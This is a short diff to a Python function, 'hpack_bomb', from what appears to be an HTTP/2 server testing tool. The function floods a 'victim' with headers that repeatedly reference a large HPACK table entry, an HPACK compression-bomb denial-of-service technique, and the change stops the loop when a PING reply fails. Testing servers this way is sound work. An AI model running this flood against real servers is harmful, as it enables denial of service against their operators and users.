@@ -303,7 +303,9 @@ def hpack_bomb(victim: Victim) -> Outcome:
         number = 1
         insert = literal("x", "a" * 4000, first=0x40)
         while number < 800 and peer.flood(headers(number, victim.post + insert + b"\xbe" * 11_900), 1):
-            peer.synchronise(2)
+            # The answer to a PING, or the end: no frame is counted that comes behind it.
+            if not peer.synchronise(2):
+                break
             insert = b""
             number += 2
         return ended(peer, 3, "header_bytes")
